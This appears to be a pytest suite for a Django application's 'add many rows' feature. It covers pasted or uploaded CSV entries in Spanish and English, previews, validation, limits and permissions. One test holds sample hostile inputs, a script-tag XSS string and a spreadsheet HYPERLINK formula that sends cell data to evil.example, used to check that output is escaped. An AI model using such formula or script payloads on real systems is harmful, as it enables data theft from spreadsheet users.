"""Add many rows: paste from a spreadsheet or upload a CSV, preview each row with the form's
own errors, add the rows without errors once. Ana (``world.applicant``) reads Spanish,
Olga (``world.other``) English."""

from __future__ import annotations

import html
import re
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from endorse.applications.bulk import entries_add_many
from endorse.applications.models import Application, RowsAdded, Rsc, Training, Work
from tests.applications.conftest import World

NOW = datetime(2025, 3, 3, 15, 0, tzinfo=UTC)


def preview(client: Client, section: str, text: str = "", upload: Any = None) -> Any:
    data: dict[str, Any] = {"text": text}
    if upload is not None:
        data["file"] = upload
    return client.post(f"/ct/application/{section}/add-many/", data)


def hidden(response: Any) -> dict[str, str]:
    """The fields the preview's "Add" button sends, read from the page as a browser would."""
    page = response.content.decode()
    found = re.findall(r'<input type="hidden" name="(content|nonce|lang)" value="([^"]*)"', page)
    assert len(found) == 3, page
    return {name: html.unescape(value) for name, value in found}


def add(client: Client, section: str, fields: dict[str, str]) -> Any:
    return client.post(f"/ct/application/{section}/add-many/", fields, follow=True)


def messages_of(response: Any) -> list[str]:
    return [str(message) for message in response.context["messages"]]


def rows_of(response: Any) -> list[tuple[int, list[str], list[str]]]:
    """The preview's rows as the page shows them: number, cells, errors."""
    return [(row.number, row.shown, row.errors) for row in response.context["pasted"].rows]


def weekly_sessions(count: int) -> str:
    """A year of weekly RS/C, as copying cells from a Spanish spreadsheet gives them."""
    first = date(2024, 1, 8)
    lines = []
    for week in range(count):
        day = first + timedelta(weeks=week)
        kind = "Individual" if week % 2 == 0 else "grupal"
        # Hours "2": the forms don't take "1,5" in Spanish yet (another change makes them).
        lines.append(f"{day:%d/%m/%Y}\t2\t{kind}\tMarta Ruiz\timhm-c\tno")
    return "\r\n".join(lines) + "\r\n"


def test_fifty_weekly_sessions_pasted_in_spanish_are_added_in_order(world: World) -> None:
    client = world.client(world.applicant)
    response = preview(client, "rsc", weekly_sessions(50))
    assert response.status_code == 200
    page = response.content.decode()
    assert "Se pueden añadir las 50 filas." in page
    assert "Añadir las 50 filas</button>" in page
    number, shown, errors = rows_of(response)[1]
    assert (number, shown, errors) == (
        2,
        ["15 de enero de 2024", "2", "Grupal", "Marta Ruiz", "IMHM-C", "No"],
        [],
    )

    done = add(client, "rsc", hidden(response))

    assert done.redirect_chain == [("/ct/application/rsc/", 302)]
    assert messages_of(done) == ["Se añadieron 50 entradas."]
    sessions = list(Rsc.objects.filter(application=world.application).order_by("created_at", "pk"))
    assert len(sessions) == 50
    assert [s.date for s in sessions[:3]] == [
        date(2024, 1, 8),
        date(2024, 1, 15),
        date(2024, 1, 22),
    ]
    assert sessions[-1].date == date(2024, 12, 16)
    first = sessions[0]
    assert (first.hours, first.format, first.provider, first.provider_endorsement) == (
        Decimal("2.00"), "individual", "Marta Ruiz", "IMHM-C")  # fmt: skip
    assert (first.about_providing_rsc, first.complete, first.draft, first.saved_at) == (
        False, True, None, NOW)  # fmt: skip
    assert {s.format for s in sessions[1::2]} == {"group"}
    assert {s.association_id for s in sessions} == {world.ct.pk}
    assert not Rsc.objects.filter(application=world.other_application).exists()


def test_a_spanish_csv_with_a_header_in_its_own_order_and_semicolons(world: World) -> None:
    client = world.client(world.applicant)
    csv_text = (
        "Formato;HORAS;fecha;Nombre del/de la proveedor/a;Notas\r\n"
        "Entre pares;2;05/03/2024;Marta Ruiz;primera\r\n"
        "individual;1;2024-03-12;;\r\n"
    )
    upload = SimpleUploadedFile("rsc.csv", "\ufeff".encode() + csv_text.encode(), "text/csv")
    response = preview(client, "rsc", upload=upload)
    page = response.content.decode()
    assert "Se pueden añadir las 2 filas." in page
    assert "Estas columnas no son nuestras y se dejaron fuera: Notas" in page
    assert [c.name for c in response.context["pasted"].columns] == [
        "format", "hours", "date", "provider"]  # fmt: skip
    assert rows_of(response) == [
        (2, ["Entre pares", "2", "5 de marzo de 2024", "Marta Ruiz"], []),
        (3, ["Individual", "1", "12 de marzo de 2024", ""], []),
    ]
    add(client, "rsc", hidden(response))
    assert list(
        Rsc.objects.filter(application=world.application).values_list("date", "format", "hours")
    ) == [(date(2024, 3, 5), "peer", Decimal("2.00")), (date(2024, 3, 12), "individual", 1)]


def test_english_short_dates_yes_no_and_labels_in_either_language(world: World) -> None:
    client = world.client(world.other)
    text = (
        "Title\tDate\tHours\tOn diversity, equity and inclusion\tOn parent-infant/child "
        "psychotherapy\tON PROVIDING RS/C\n"
        "Attachment basics\t03/05/2024\t6\tyes\tx\t\n"
        "Racismo y crianza\t2024-04-02\t3\tSí\tFALSO\tverdadero\n"
    )
    response = preview(client, "training", text)
    assert rows_of(response) == [
        (2, ["Attachment basics", "March 5, 2024", "6", "Yes", "Yes", "No"], []),
        (3, ["Racismo y crianza", "April 2, 2024", "3", "Yes", "No", "Yes"], []),
    ]
    work = (
        "Internship\tAgency\t09/01/2021\t\t0.5\tPrevención / intervención temprana\t"
        "infants and toddlers (0-3)\t12\t\tno\tno\tifs\n"
    )
    work_preview = preview(client, "work", work)
    assert rows_of(work_preview)[0][2] == []
    add(client, "work", hidden(work_preview))
    job = Work.objects.get(application=world.other_application)
    assert job.title == "Internship"  # a column's name, yet a row: most cells name nothing
    # An empty "paid work" cell keeps the form's default (yes), as an untouched box does.
    assert (job.start, job.end, job.fte, job.service, job.age_band, job.paid) == (
        date(2021, 9, 1), None, Decimal("0.5000"), "prevention", "infant", True)  # fmt: skip
    assert (job.families_served, job.supervised, job.supervisor_endorsement) == (12, False, "IFS")


def test_each_row_shows_the_forms_own_errors_and_only_the_others_are_added(
    world: World,
) -> None:
    client = world.client(world.applicant)
    text = (
        "Apego\t01/02/2024\t3\tno\tno\tno\n"
        "Sin horas\t31/02/2024\t0\tquizás\tno\tno\n"
        "Duelo\t05/02/2024\t2\t\t\t\n"
    )
    response = preview(client, "training", text)
    page = response.content.decode()
    assert "Se pueden añadir 2 filas, 1 tiene errores." in page
    assert "Añadir las 2 filas sin errores</button>" in page
    assert rows_of(response)[1] == (
        2,
        ["Sin horas", "31/02/2024", "0", "quizás", "No", "No"],
        [
            "Sobre diversidad, equidad e inclusión: Escriba sí o no.",
            "Fecha: Introduzca una fecha válida.",
            "Horas: Las horas deben ser más de 0.",
        ],
    )
    assert '<tr class="row-with-errors">' in page
    assert "<li>Horas: Las horas deben ser más de 0.</li>" in page

    done = add(client, "training", hidden(response))

    assert messages_of(done) == ["Se añadieron 2 entradas."]
    assert list(
        Training.objects.filter(application=world.application).values_list("title", flat=True)
    ) == ["Apego", "Duelo"]


def test_the_same_preview_sent_twice_adds_its_rows_once(world: World) -> None:
    client = world.client(world.applicant)
    fields = hidden(preview(client, "rsc", weekly_sessions(3)))
    first = add(client, "rsc", fields)
    second = add(client, "rsc", fields)
    assert messages_of(first) == messages_of(second) == ["Se añadieron 3 entradas."]
    assert Rsc.objects.filter(application=world.application).count() == 3
    assert RowsAdded.objects.get().added == 3
    # Pasted again (a new preview), the same rows are new rows: the person asked twice.
    add(client, "rsc", hidden(preview(client, "rsc", weekly_sessions(3))))
    assert Rsc.objects.filter(application=world.application).count() == 6


def test_the_template_in_english_and_in_spanish(world: World) -> None:
    english = world.client(world.other).get("/ct/application/rsc/add-many/template.csv")
    assert english["Content-Type"] == "text/csv; charset=utf-8"
    assert english["Content-Disposition"] == 'attachment; filename="rsc-template.csv"'
    assert english.content.decode("utf-8") == (
        "\ufeffDate,Hours,Format,Provider's name,Provider's endorsement,"
        "About providing RS/C to others\r\n"
        "2024-03-05,1,Individual,Marta Ruiz,IMHM-C,no\r\n"
    )
    spanish = world.client(world.applicant).get("/ct/application/work/add-many/template.csv")
    assert spanish["Content-Disposition"] == 'attachment; filename="plantilla-work.csv"'
    assert spanish.content.decode("utf-8") == (
        "\ufeffCargo;Empleador;Fecha de inicio;Fecha de finalización;"
        "Equivalente a tiempo completo;Tipo de servicio;Edades atendidas;Familias atendidas;"
        "Trabajo remunerado;Trabajo remunerado supervisado;"
        "Pasantía supervisada por un/a profesional con Endorsement®;"
        "El Endorsement® de quien supervisó su pasantía\r\n"
        "Visitadora domiciliaria;Centro Familiar Pequeños Pasos;2021-09-01;;1;"
        "Prevención / intervención temprana;Bebés y niños de hasta 3 años (0–3);12;sí;no;no;\r\n"
    )


def test_each_template_read_back_is_one_row_without_errors(world: World) -> None:
    for user in (world.applicant, world.other):
        client = world.client(user)
        for section in ("work", "training", "rsc"):
            template = client.get(f"/ct/application/{section}/add-many/template.csv").content
            upload = SimpleUploadedFile("t.csv", template, "text/csv")
            response = preview(client, section, upload=upload)
            assert [(n, errors) for n, _cells, errors in rows_of(response)] == [(2, [])], section


def test_too_many_rows_or_bytes_are_refused_with_a_clear_message(world: World) -> None:
    client = world.client(world.other)
    many = "".join("2024-01-01\t1\tindividual\n" for _ in range(1001))
    response = preview(client, "rsc", many)
    assert response.status_code == 422
    assert (
        "At most 1000 rows can be added at once; this has 1001. Add them in parts."
        in response.content.decode()
    )
    large = "2024-01-01\t1\tindividual\t" + "x" * (512 * 1024) + "\n"
    refused = "This is more than 512 KB. Add the rows in parts of at most 1000 rows."
    assert refused in preview(client, "rsc", large).content.decode()
    upload = SimpleUploadedFile("big.csv", large.encode(), "text/csv")
    assert refused in preview(client, "rsc", upload=upload).content.decode()
    latin1 = SimpleUploadedFile("old.csv", "Año;1;individual\n".encode("cp1252"), "text/csv")
    assert "The file is not UTF-8 text." in preview(client, "rsc", upload=latin1).content.decode()
    assert not Rsc.objects.exists()


def test_a_header_without_a_required_column_is_refused(world: World) -> None:
    response = preview(world.client(world.other), "rsc", "Date\tHours\n2024-01-01\t1\n")
    assert response.status_code == 422
    assert (
        "The header has no column for “Format”, which every row needs." in response.content.decode()
    )


def test_hostile_text_is_shown_escaped_and_stored_as_typed(world: World) -> None:
    client = world.client(world.other)
    title = "<script>alert(1)</script>"
    formula = '=HYPERLINK("https://evil.example/?"&A1,"x")'
    quoted = '"' + formula.replace('"', '""') + '"'  # as a spreadsheet copies a cell with quotes
    response = preview(client, "training", f"{title}\t2024-01-01\t1\n{quoted}\t2024-01-02\t1\n")
    page = response.content.decode()
    assert "<script>alert(1)</script>" not in page
    assert "<td>&lt;script&gt;alert(1)&lt;/script&gt;</td>" in page
    add(client, "training", hidden(response))
    assert list(
        Training.objects.filter(application=world.other_application).values_list("title", flat=True)
    ) == [title, formula]


def test_a_submitted_application_adds_nothing(world: World) -> None:
    client = world.client(world.applicant)
    fields = hidden(preview(client, "rsc", weekly_sessions(2)))
    Application.objects.filter(pk=world.application.pk).update(status="submitted")

    done = add(client, "rsc", fields)

    assert messages_of(done) == ["Esta solicitud ya fue enviada y no se puede modificar."]
    assert not Rsc.objects.exists() and not RowsAdded.objects.exists()
    page = client.get("/ct/application/rsc/add-many/").content.decode()
    assert "Esta solicitud ya fue enviada y no se puede modificar." in page
    assert 'name="text"' not in page
    again = client.post("/ct/application/rsc/add-many/", {"text": weekly_sessions(2)}, follow=True)
    assert messages_of(again) == ["Esta solicitud ya fue enviada y no se puede modificar."]
    assert not Rsc.objects.exists()


def test_only_ones_own_application_and_only_these_sections(world: World) -> None:
    owner = world.client(world.applicant)
    fields = hidden(preview(owner, "rsc", weekly_sessions(2)))
    coordinator = world.client(world.coordinator)
    assert coordinator.get("/ct/application/rsc/add-many/").status_code == 404
    assert coordinator.post("/ct/application/rsc/add-many/", fields).status_code == 404
    assert coordinator.get("/ct/application/rsc/add-many/template.csv").status_code == 404
    # Another applicant sending Ana's preview adds to their own application, never to hers.
    world.client(world.other).post("/ct/application/rsc/add-many/", fields)
    assert not Rsc.objects.filter(application=world.application).exists()
    assert not RowsAdded.objects.filter(application=world.application).exists()
    for section in ("education", "references", "details", "leadership", "status", "nope"):
        assert owner.get(f"/ct/application/{section}/add-many/").status_code == 404, section


def test_the_service_takes_only_what_the_form_cleaned(world: World) -> None:
    rows = [{"date": date(2024, 1, 1), "hours": Decimal(1), "format": "individual", "x": 1}]
    with pytest.raises(ValueError, match="cleaned data of the section's form"):
        entries_add_many(application=world.application, section="rsc", rows=rows, token="t")
    assert not Rsc.objects.exists() and not RowsAdded.objects.exists()


def test_on_hold_only_the_reopened_sections_take_rows(world: World) -> None:
    Application.objects.filter(pk=world.application.pk).update(
        status="on_hold", reopened_sections=["training"]
    )
    world.application.refresh_from_db()
    row = {"date": date(2024, 1, 1), "hours": Decimal(1), "format": "individual"}
    with pytest.raises(ValidationError):
        entries_add_many(application=world.application, section="rsc", rows=[row], token="a")
    training = {"title": "Apego", "date": date(2024, 1, 1), "hours": Decimal(2)}
    added = entries_add_many(
        application=world.application, section="training", rows=[training], token="b"
    )
    assert (added, Rsc.objects.count(), Training.objects.get().title) == (1, 0, "Apego")


def test_a_header_may_leave_optional_columns_out(world: World) -> None:
    client = world.client(world.other)
    text = "start date\tFull-time equivalent\tKIND OF SERVICE\tAges served\n2020-01-06\t1\tTreatment\tboth\n"
    response = preview(client, "work", text)
    assert [c.name for c in response.context["pasted"].columns] == [
        "start", "fte", "service", "age_band"]  # fmt: skip
    assert rows_of(response) == [(2, ["Jan. 6, 2020", "1", "Treatment", "Both"], [])]
    add(client, "work", hidden(response))
    job = Work.objects.get(application=world.other_application)
    # A yes/no column left out reads as the form's default, as an untouched box does.
    assert (job.title, job.end, job.paid, job.supervised, job.internship) == (
        "", None, True, False, False)  # fmt: skip


def test_a_second_request_racing_the_first_adds_nothing(world: World, monkeypatch: Any) -> None:
    """Two clicks at the same moment: both look before either records the token; the unique
    constraint stops the second, which answers with what the first added."""
    from endorse.applications import bulk

    RowsAdded.objects.create(association=world.ct, application=world.application,
                             section="rsc", token="t", added=5, at=NOW)  # fmt: skip
    real, calls = bulk._used, []

    def not_yet(application: Application, token: str) -> int | None:
        calls.append(token)
        return None if len(calls) == 1 else real(application, token)

    monkeypatch.setattr(bulk, "_used", not_yet)
    row = {"date": date(2024, 1, 1), "hours": Decimal(1), "format": "individual"}
    added = entries_add_many(application=world.application, section="rsc", rows=[row], token="t")
    assert (added, len(calls), Rsc.objects.count(), RowsAdded.objects.count()) == (5, 2, 0, 1)


def test_the_columns_speak_the_words_of_the_categorys_work_rule_as_the_log_does(
    world: World,
) -> None:
    client = world.client(world.applicant)  # Spanish, IMHS
    page = client.get("/ct/application/work/add-many/").content.decode()
    log = client.get("/ct/application/work/").content.decode()
    for words in (
        "Trabajo remunerado supervisado",
        "El Endorsement® de quien supervisó su pasantía",
    ):
        assert words in page and words in log
    assert "Trabajo supervisado" not in page
    # A header in the form's plain words (an older template) is still read.
    plain = (
        "Cargo;Fecha de inicio;Equivalente a tiempo completo;Tipo de servicio;Edades atendidas;"
        "Trabajo remunerado;Trabajo supervisado\n"
        "Visitadora;2021-09-01;1;Prevención / intervención temprana;"
        "Bebés y niños de hasta 3 años (0–3);sí;sí\n"
    )
    response = preview(client, "work", plain)
    assert [(n, errors) for n, _cells, errors in rows_of(response)] == [(2, [])]
    assert [c.name for c in response.context["pasted"].columns] == [
        "title", "start", "fte", "service", "age_band", "paid", "supervised",
    ]  # fmt: skip
